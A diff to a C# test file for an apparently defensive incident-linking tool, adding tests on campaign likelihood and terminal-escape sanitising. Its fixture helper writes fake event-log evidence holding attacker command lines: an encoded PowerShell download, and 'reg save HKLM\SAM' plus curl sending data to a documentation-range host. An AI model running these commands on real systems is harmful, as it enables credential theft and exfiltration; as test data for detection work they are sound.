@@ -122,9 +122,26 @@ public sealed class LinkTests : IDisposable
     }
 
     [Fact]
+    public void One_address_alone_makes_no_campaign_and_the_page_says_why()
+    {
+        string a = Investigate(MadeUp("PC-1.one.example", "203.0.113.7"), "a"), b = Investigate(MadeUp("PC-2.two.example", "203.0.113.7"), "b");
+
+        string page = _program.Run("link", a, b, "--min", "low").Out;
+
+        Assert.StartsWith("No incidents are likely one campaign; of 1 pair it is a realistic possibility.\n", page, StringComparison.Ordinal);
+        Assert.Matches(@"NOT LINKED\n  a #1: nearest b #1, realistic possibility \(9[0-9]%\); shares address 203\.0\.113\.7\n +cap +One domain, with all names below it", page);
+        Assert.Single(System.Text.RegularExpressions.Regex.Matches(page, "cap +One domain"));
+        using var json = JsonDocument.Parse(_program.Run("link", a, b, "--min", "low", "--format", "json").Out);
+        JsonElement pair = Assert.Single(json.RootElement.GetProperty("pairs").EnumerateArray());
+        Assert.Equal("realistic_possibility", pair.GetProperty("likelihood").GetString());
+        Assert.StartsWith("One domain, with all names below it", Assert.Single(pair.GetProperty("caps").EnumerateArray()).GetString(), StringComparison.Ordinal);
+    }
+
+    [Fact]
     public void Evidence_cannot_reach_the_terminal()
     {
-        string a = Investigate(MadeUp("PC-1.one\u001b[31m\u202e.example", "203.0.113.7"), "a\u001b[2J"), b = Investigate(MadeUp("PC-2.one\u001b[31m\u202e.example", "203.0.113.7"), "b");
+        string a = Investigate(MadeUp("PC-1.one\u001b[31m\u202e.example", "203.0.113.7", "198.51.100.7"), "a\u001b[2J");
+        string b = Investigate(MadeUp("PC-2.one\u001b[31m\u202e.example", "203.0.113.7", "198.51.100.7"), "b");
 
         Outcome outcome = _program.Run("link", a, b, "--min", "low", "--base-rate", "0.99");
 
@@ -205,8 +222,8 @@ public sealed class LinkTests : IDisposable
     }
 
     // One process of another kind of intruder.
-    private string MadeUp(string computer, string address) => Path.GetDirectoryName(_program.Write(
-        $"evidence-{Guid.NewGuid():N}/one.evtx", TestEvidence.Log(computer, $"powershell -enc SQBFAFgA http://{address}/qzx.ps1", $"whoami /all & curl http://{address}/q", $"reg save HKLM\\SAM c:\\users\\public\\s.dat & curl http://{address}/s")))!;
+    private string MadeUp(string computer, string address, string? another = null) => Path.GetDirectoryName(_program.Write(
+        $"evidence-{Guid.NewGuid():N}/one.evtx", TestEvidence.Log(computer, $"powershell -enc SQBFAFgA http://{address}/qzx.ps1", $"whoami /all & curl http://{address}/q", $"reg save HKLM\\SAM c:\\users\\public\\s.dat & curl http://{address}/s{(another is null ? "" : $" http://{another}/s")}")))!;
 
     private static string Hash(string folder) => string.Join('\n', Directory.EnumerateFiles(folder, "*", SearchOption.AllDirectories).Order(StringComparer.Ordinal)
         .Select(static f => f + Convert.ToHexString(System.Security.Cryptography.SHA256.HashData(File.ReadAllBytes(f)))));
